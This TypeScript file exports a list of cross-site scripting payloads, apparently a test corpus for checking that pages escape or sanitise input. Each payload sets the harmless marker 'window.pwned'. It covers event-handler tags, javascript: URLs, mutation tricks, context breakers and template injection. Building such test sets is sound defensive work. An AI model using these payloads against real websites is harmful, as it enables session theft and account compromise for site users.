/** Texts that would run as a script where a page made markup, an attribute, a style or an address of them. */

const act = 'window.pwned=1'
const encoded = [...act].map(one => `&#${one.charCodeAt(0)};`).join('')
const tags = [
  'img src=x',
  'video src=x',
  'audio src=x',
  'image src=x',
  'input type=image src=x',
  'object data=x',
]
const selfActing = [
  `<svg onload=${act}>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><set onbegin=${act} attributeName=x dur=1s>`,
  `<body onload=${act}>`,
  `<body onpageshow=${act}>`,
  `<details open ontoggle=${act}>x</details>`,
  `<marquee onstart=${act}>x</marquee>`,
  `<input autofocus onfocus=${act}>`,
  `<select autofocus onfocus=${act}>`,
  `<textarea autofocus onfocus=${act}>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<embed src="javascript:${act}">`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${act}">x</b>`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><img src=x onerror=${act}></template>`,
  `<link rel=stylesheet href="javascript:${act}">`,
  `<base href="javascript:${act}//">`,
]
const breaking = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '--></script>',
  '</title>',
  '</textarea>',
  ']]>',
  '}}',
  '*/',
  '\\"',
]

/** Every payload; what runs leaves `window.pwned`. */
export const payloads: readonly string[] = [
  `<script>${act}</script>`,
  `<SCRIPT SRC=//127.0.0.1/x.js></SCRIPT>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script\u0000>${act}</script>`,
  `＜script＞${act}＜/script＞`,
  ...selfActing,
  ...tags.map(tag => `<${tag} onerror=${act}>`),
  ...tags.map(tag => `<${tag} onerror="${encoded}">`),
  ...tags.map(tag => `<${tag}/onerror=${act}//`),
  ...breaking.map(end => `${end}<img src=x onerror=${act}>`),
  ...breaking.map(end => `${end} onmouseover=${act} autofocus onfocus=${act} x=${end}`),
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', 'data:text/html,', 'vbscript:'].flatMap(
    way => [`${way}${act}`, `<a href="${way}${act}">x</a>`, `[x](${way}${act})`, `![x](${way}${act})`],
  ),
  `https://example.com/"onmouseover="${act}`,
  `https://example.com/'><img src=x onerror=${act}>`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<%= ${act} %>`,
  `&lt;img src=x onerror=${act}&gt;`,
  `%3Cimg%20src=x%20onerror=${act}%3E`,
  `\\u003cimg src=x onerror=${act}\\u003e`,
  `{"__html":"<img src=x onerror=${act}>"}`,
  `x\u2028${act}\u2029`,
  `\u202E<img src=x onerror=${act}>`,
]
